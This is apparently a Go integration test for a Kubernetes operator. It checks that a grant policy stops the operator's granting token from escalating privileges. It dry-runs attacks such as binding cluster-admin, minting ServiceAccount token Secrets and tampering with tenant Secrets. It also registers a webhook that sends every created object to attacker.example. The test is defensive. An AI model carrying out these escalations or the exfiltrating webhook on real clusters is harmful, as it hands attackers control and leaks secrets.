package integration

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	"github.com/sidecar-operator/sidecar-operator/api/v1alpha1"
	"github.com/sidecar-operator/sidecar-operator/config"
	"github.com/sidecar-operator/sidecar-operator/internal/scheme"
	"github.com/sidecar-operator/sidecar-operator/internal/sidecarfile"
	"github.com/sidecar-operator/sidecar-operator/internal/webhookconfig"
)

// operatorRoles is the generated ClusterRole and Role of an identity of
// the operator, webhook or controller (config/rbac/<identity>/role.yaml), as
// installed.
func operatorRoles(t *testing.T, identity string) (*rbacv1.ClusterRole, *rbacv1.Role) {
	t.Helper()
	raw, err := config.Tree.ReadFile("rbac/" + identity + "/role.yaml")
	if err != nil {
		t.Fatal(err)
	}
	docs, err := sidecarfile.SplitYAML(bytes.NewReader(raw))
	if err != nil || len(docs) != 2 {
		t.Fatalf("role.yaml: %d documents, %v; want the ClusterRole and the Role", len(docs), err)
	}
	var clusterRole rbacv1.ClusterRole
	var role rbacv1.Role
	if err := yaml.UnmarshalStrict(docs[0], &clusterRole); err != nil {
		t.Fatal(err)
	}
	if err := yaml.UnmarshalStrict(docs[1], &role); err != nil {
		t.Fatal(err)
	}
	return &clusterRole, &role
}

// serviceAccountUser is how the apiserver authenticates a ServiceAccount's token.
func serviceAccountUser(namespace, name string) rest.ImpersonationConfig {
	return rest.ImpersonationConfig{
		UserName: "system:serviceaccount:" + namespace + ":" + name,
		Groups:   []string{"system:serviceaccounts", "system:serviceaccounts:" + namespace, "system:authenticated"},
	}
}

// bindOperatorRoles gives the ServiceAccount name of namespace, in c's
// cluster, the ClusterRole and Role of the operator's identity (named name,
// so as not to meet another install's), and waits until the authorizer
// knows them. It returns the client that acts as the ServiceAccount, and
// the roles.
func bindOperatorRoles(t *testing.T, c client.Client, base *rest.Config, name, identity string) (client.Client, *rbacv1.ClusterRole, *rbacv1.Role) {
	t.Helper()
	const namespace = operatorNamespace
	ctx := context.Background()
	clusterRole, role := operatorRoles(t, identity)
	clusterRole.ObjectMeta = metav1.ObjectMeta{Name: name}
	role.ObjectMeta = metav1.ObjectMeta{Name: name, Namespace: namespace}
	subjects := []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: namespace, Name: name}}
	for _, obj := range []client.Object{
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name}},
		clusterRole,
		&rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name}, Subjects: subjects,
			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: name}},
		role,
		&rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name}, Subjects: subjects,
			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: name}},
	} {
		if err := c.Create(ctx, obj); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = c.Delete(context.Background(), obj) })
	}
	as := serviceAccountUser(namespace, name)
	// The last rule of each, so that the authorizer has caught up.
	last := func(rules []rbacv1.PolicyRule, namespace string) authorizationv1.ResourceAttributes {
		r := rules[len(rules)-1]
		attrs := authorizationv1.ResourceAttributes{Verb: r.Verbs[0], Group: r.APIGroups[0], Resource: r.Resources[0], Namespace: namespace}
		if len(r.ResourceNames) > 0 {
			attrs.Name = r.ResourceNames[0]
		}
		return attrs
	}
	for _, attrs := range []authorizationv1.ResourceAttributes{last(clusterRole.Rules, ""), last(role.Rules, namespace)} {
		eventually(t, 20*time.Second, func() error {
			review := &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
				User: as.UserName, Groups: as.Groups, ResourceAttributes: &attrs}}
			if err := c.Create(ctx, review); err != nil {
				return err
			}
			if !review.Status.Allowed {
				return fmt.Errorf("%s may not %+v yet", as.UserName, attrs)
			}
			return nil
		})
	}
	impersonated := rest.CopyConfig(base)
	impersonated.Impersonate = as
	sa, err := client.New(impersonated, client.Options{Scheme: scheme.New()})
	if err != nil {
		t.Fatal(err)
	}
	return sa, clusterRole, role
}

// installGrantPolicy creates the grant policy of an install in namespace
// with c, deleted after the test, and waits until the apiserver enforces
// it on as: a dry-run ClusterRole of another name is refused by it.
func installGrantPolicy(t *testing.T, c, as client.Client) {
	t.Helper()
	const namespace = operatorNamespace
	ctx := context.Background()
	policy, binding := webhookconfig.GrantPolicy(namespace)
	for _, obj := range []client.Object{policy, binding} {
		if err := c.Create(ctx, obj); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = c.Delete(context.Background(), obj) })
	}
	eventually(t, 30*time.Second, func() error {
		probe := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "grant-policy-probe"}}
		if err := as.Create(ctx, probe, client.DryRunAll); err == nil || !strings.Contains(err.Error(), webhookconfig.GrantPolicyName) {
			return fmt.Errorf("the grant policy does not judge yet: %v", err)
		}
		return nil
	})
}

// managed are the labels the operator puts on what it makes.
func managed(extra ...string) map[string]string {
	l := map[string]string{v1alpha1.LabelManagedBy: v1alpha1.ManagedBy}
	for i := 0; i+1 < len(extra); i += 2 {
		l[extra[i]] = extra[i+1]
	}
	return l
}

// TestAttackGrantingIdentityIsHeldToItsObjects: the identity that makes
// grants holds escalate and bind on clusterroles, and create, update and
// delete on every binding and every Secret, which RBAC cannot narrow by
// name or label. With its token alone one could bind cluster-admin to
// anyone, or have the apiserver mint a token Secret for any ServiceAccount.
// The grant policy holds it to what the operator writes. Each write is a
// dry run, so a hole leaves nothing behind.
func TestAttackGrantingIdentityIsHeldToItsObjects(t *testing.T) {
	ctx := context.Background()
	tenantNS := createNamespace(t, nil)
	tenantSecret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: tenantNS, Name: "db-password"}, StringData: map[string]string{"password": "s3cret"}}
	// A pull secret copy, as the operator makes it (not created: the
	// suite's operator deletes copies no Sidecar wants).
	copyOf := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Namespace: tenantNS, Name: "regcred", Labels: managed(v1alpha1.LabelPullSecretCopy, "true")},
		Type:       corev1.SecretTypeDockerConfigJson, Data: map[string][]byte{corev1.DockerConfigJsonKey: []byte(`{"auths":{}}`)},
	}
	createAdmin(t, tenantSecret)
	op, _, _ := bindOperatorRoles(t, k8s, cfg, webhookconfig.GrantingServiceAccount, "controller")
	installGrantPolicy(t, k8s, op)

	self := rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Namespace: operatorNamespace, Name: webhookconfig.GrantingServiceAccount}
	tenantSA := rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Namespace: tenantNS, Name: "app"}
	clusterAdmin := rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"}
	everything := []rbacv1.PolicyRule{{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}}
	ours := func(name string) rbacv1.RoleRef {
		return rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: name}
	}
	tokenSecret := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Namespace: tenantNS, Name: "minted", Labels: managed(v1alpha1.LabelPullSecretCopy, "true"),
			Annotations: map[string]string{corev1.ServiceAccountNameKey: "default"}},
		Type: corev1.SecretTypeServiceAccountToken,
	}
	emptied := tenantSecret.DeepCopy()
	emptied.StringData = nil
	emptied.Data = map[string][]byte{"password": []byte("mine")}
	relabelled := tenantSecret.DeepCopy()
	relabelled.Labels = managed(v1alpha1.LabelPullSecretCopy, "true")
	retyped := copyOf.DeepCopy()
	retyped.Name, retyped.Labels = "regcred-2", managed()

	for _, tc := range []struct {
		name  string
		write func() error
	}{
		{"create clusterrolebinding --clusterrole=cluster-admin", func() error {
			return op.Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "pwn"}, RoleRef: clusterAdmin, Subjects: []rbacv1.Subject{self}}, client.DryRunAll)
		}},
		{"the same, named and labelled as the operator's", func() error {
			return op.Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "sidecar-operator:pwn", Labels: managed()},
				RoleRef: clusterAdmin, Subjects: []rbacv1.Subject{tenantSA}}, client.DryRunAll)
		}},
		{"a RoleBinding of cluster-admin in a tenant namespace", func() error {
			return op.Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: tenantNS, Name: "sidecar-operator:pwn", Labels: managed()},
				RoleRef: clusterAdmin, Subjects: []rbacv1.Subject{tenantSA}}, client.DryRunAll)
		}},
		{"a ClusterRole of another name", func() error {
			return op.Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "pwn"}, Rules: everything}, client.DryRunAll)
		}},
		{"a ClusterRole of the operator's name, unlabelled", func() error {
			return op.Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "sidecar-operator:pwn"}, Rules: everything}, client.DryRunAll)
		}},
		{"a ClusterRole that aggregates into view", func() error {
			return op.Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "sidecar-operator:pwn",
				Labels: managed("rbac.authorization.k8s.io/aggregate-to-view", "true")}, Rules: everything}, client.DryRunAll)
		}},
		{"delete clusterrole admin", func() error {
			return op.Delete(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "admin"}}, client.DryRunAll)
		}},
		{"a binding of its own role to itself", func() error {
			return op.Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "sidecar-operator:pwn", Labels: managed()},
				RoleRef: ours("sidecar-operator:pwn"), Subjects: []rbacv1.Subject{self}}, client.DryRunAll)
		}},
		{"a binding of its own role to every ServiceAccount", func() error {
			return op.Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "sidecar-operator:pwn", Labels: managed()},
				RoleRef: ours("sidecar-operator:pwn"), Subjects: []rbacv1.Subject{{Kind: rbacv1.GroupKind, APIGroup: rbacv1.GroupName, Name: "system:serviceaccounts"}}},
				client.DryRunAll)
		}},
		{"a RoleBinding to a ServiceAccount of another namespace", func() error {
			return op.Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: tenantNS, Name: "sidecar-operator:pwn", Labels: managed()},
				RoleRef: ours("sidecar-operator:pwn"), Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: "default", Name: "default"}}},
				client.DryRunAll)
		}},
		{"create an unlabelled Secret in a tenant namespace", func() error {
			return op.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: tenantNS, Name: "planted"}, StringData: map[string]string{"k": "v"}}, client.DryRunAll)
		}},
		{"update a tenant's Secret", func() error { return op.Update(ctx, emptied.DeepCopy(), client.DryRunAll) }},
		{"label a tenant's Secret as a copy", func() error { return op.Update(ctx, relabelled.DeepCopy(), client.DryRunAll) }},
		{"delete a tenant's Secret", func() error { return op.Delete(ctx, tenantSecret.DeepCopy(), client.DryRunAll) }},
		{"mint a token Secret, labelled as a copy", func() error { return op.Create(ctx, tokenSecret.DeepCopy(), client.DryRunAll) }},
		{"a registry Secret labelled but not as a copy", func() error { return op.Create(ctx, retyped, client.DryRunAll) }},
		{"a Secret of another name in its own namespace", func() error {
			return op.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: operatorNamespace, Name: "planted"}, StringData: map[string]string{"k": "v"}}, client.DryRunAll)
		}},
		{"delete its signing key", func() error {
			return op.Delete(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: operatorNamespace, Name: "sidecar-operator-signing-key"}}, client.DryRunAll)
		}},
		{"a MutatingWebhookConfiguration of another name (RBAC: no create)", func() error {
			return op.Create(ctx, &admissionv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "grants-exfiltrate"},
				Webhooks: []admissionv1.MutatingWebhook{{
					Name: "exfiltrate.attacker.example", ClientConfig: admissionv1.WebhookClientConfig{URL: new("https://attacker.example/")},
					AdmissionReviewVersions: []string{"v1"}, SideEffects: ptr.To(admissionv1.SideEffectClassNone), FailurePolicy: ptr.To(admissionv1.Ignore),
					Rules: []admissionv1.RuleWithOperations{{Operations: []admissionv1.OperationType{admissionv1.Create},
						Rule: admissionv1.Rule{APIGroups: []string{"*"}, APIVersions: []string{"*"}, Resources: []string{"*"}}}},
				}}}, client.DryRunAll)
		}},
		{"delete the grant policy (RBAC: not by name)", func() error {
			policy, _ := webhookconfig.GrantPolicy(operatorNamespace)
			return op.Delete(ctx, policy, client.DryRunAll)
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := tc.write()
			if err == nil {
				t.Fatalf("HOLE: the granting identity's token may %s", tc.name)
			}
			if !strings.Contains(err.Error(), "forbidden") {
				t.Fatalf("refused, but not forbidden: %v", err)
			}
			t.Logf("refused: %v", err)
		})
	}

	// What the operator itself writes passes: the policy refuses by name,
	// label and subject, not wholesale.
	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "sidecar-operator:agent", Labels: managed(v1alpha1.LabelSidecar, "agent")}, Rules: everything}
	for _, obj := range []client.Object{
		role,
		&rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: tenantNS, Name: role.Name, Labels: role.Labels}, RoleRef: ours(role.Name), Subjects: []rbacv1.Subject{tenantSA}},
		&rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: role.Name, Labels: role.Labels}, RoleRef: ours(role.Name), Subjects: []rbacv1.Subject{tenantSA}},
		copyOf,
	} {
		if err := op.Create(ctx, obj, client.DryRunAll); err != nil {
			t.Errorf("the operator's own %T %s is refused: %v", obj, obj.GetName(), err)
		}
	}
}
